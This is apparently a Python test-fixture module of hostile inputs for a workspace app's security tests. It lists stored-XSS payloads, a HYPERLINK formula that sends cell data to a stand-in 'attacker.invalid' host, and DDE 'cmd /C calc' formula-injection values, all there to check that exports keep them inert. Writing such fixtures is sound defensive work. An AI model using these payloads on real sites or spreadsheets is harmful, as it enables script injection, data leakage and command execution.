"""What an attacker (or a careless paste) types into the workspace's text fields: stored-XSS
payloads, which every page, PDF and DOCX must show as the text typed, and formula-injection values,
which spreadsheet exports must hand over as text that nothing runs.

Each payload carries a marker (``alert``, ``calc``, ``HYPERLINK``…) so that a test can tell the
payload's text from the page's own markup. ``fitted`` and ``chunks`` cut the corpus to what a
field of a given length accepts.
"""

from __future__ import annotations

# Stored XSS: markup, attribute breakouts, URL schemes, template syntax, mutation XSS, escapes.
XSS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    "javascript:alert(4)",
    '<iframe src="javascript:alert(5)"></iframe>',
    '<a href="javascript:alert(6)">click me</a>',
    "{{ 7*7 }} {% debug %} {{ request.user.password }}",
    "</textarea><script>alert(7)</script>",
    "</title></style></script><script>alert(8)</script>",
    '" onmouseover="alert(9)" x="',
    "' onfocus='alert(10)' autofocus x='",
    '<div style="width: expression(alert(11))">css</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    '<object data="javascript:alert(13)"></object><embed src="javascript:alert(13)">',
    '<base href="javascript:alert(14)//"><form action=javascript:alert(14)><button>x</button>',
    "<body onload=alert(15)><details open ontoggle=alert(15)>",
    "\\u003cscript\\u003ealert(16)\\u003c/script\\u003e &lt;script&gt;alert(16)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(17)\uff1c/script\uff1e \u202eevil\u202c",
    "<!--<img src=x onerror=alert(18)>--> <![CDATA[<script>alert(18)</script>]]>",
    'hx-get=/logout hx-trigger=load <div hx-get="/logout" hx-trigger="load">alert(19)</div>',
    "<scr<script>ipt>alert(20)</scr</script>ipt>",
)

# A null byte: Django's form fields refuse it, so it is never stored.
NULL_BYTE = "<script>alert(21)</script>\x00"

# Control characters a paste can carry (an ANSI colour, a vertical tab, a backspace): stored as
# typed, and exports that cannot hold them (XML in XLSX and DOCX) must still be produced.
CONTROL = "\x1b[31mred\x1b[0m alert(22)\x0b\x08"

# Very long: as much markup as the field holds.
LONG = "<script>alert(23)</script>" * 80

# Formula injection: what a spreadsheet would run if a cell started with it.
FORMULAS = (
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"Click for the report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)

EVERY = (*XSS, CONTROL, LONG, *FORMULAS)


def fitted(payload: str, length: int | None) -> str:
    """``payload`` cut to ``length`` characters (None: whole)."""
    return payload if length is None else payload[:length]


def chunks(payloads, length: int | None, separator: str = " | ") -> list[str]:
    """The payloads joined into as few values as fit in ``length`` characters, each payload whole
    in one value (a payload longer than ``length`` is cut to it, alone)."""
    values, current = [], ""
    for payload in payloads:
        payload = fitted(payload, length)
        joined = f"{current}{separator}{payload}" if current else payload
        if length is None or len(joined) <= length:
            current = joined
        else:
            values.append(current)
            current = payload
    if current:
        values.append(current)
    return values
